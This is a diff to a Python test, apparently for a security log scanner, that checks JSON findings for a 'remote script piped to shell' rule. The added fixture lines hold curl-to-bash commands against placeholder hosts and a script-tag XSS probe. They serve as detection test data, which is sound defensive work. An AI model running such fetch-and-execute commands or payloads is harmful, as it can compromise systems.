@@ -45,7 +45,10 @@ def test_json_document_follows_the_contract() -> None:
     curl = next(f for f in doc["findings"] if f["evidence"]["rule_id"] == "exec.remote-script-to-shell")
     assert curl["evidence"] == {"path": str(MULTIFORMAT), "line": 14, "last_line": 33, "count": 3,
                                 "rule_id": "exec.remote-script-to-shell", "first_time": "2026-11-14T03:06:10.250000Z",
-                                "last_time": "2026-11-14T03:11:00Z"}  # fmt: skip
+                                "last_time": "2026-11-14T03:11:00Z", "examples": [
+        "2026-11-14T03:06:10.2500000Z ##[group]Run curl -sSL http://203.0.113.7/p.sh | bash",
+        "2026-11-14T03:06:10.2510000Z curl -sSL http://203.0.113.7/p.sh | bash",
+        "2026-11-14T03:11:00.000Z <script>alert(1)</script> curl -s https://x.example/a.sh | sh"]}  # fmt: skip
     assert curl["severity"] == "critical" and curl["atlas"] == ["AML.T0010.001", "AML.T0050"]
     assert doc["files"] == [{"path": str(MULTIFORMAT), "lines": 42, "bytes": MULTIFORMAT.stat().st_size,
                              "compressed": False, "complete": True, "backend": doc["files"][0]["backend"],
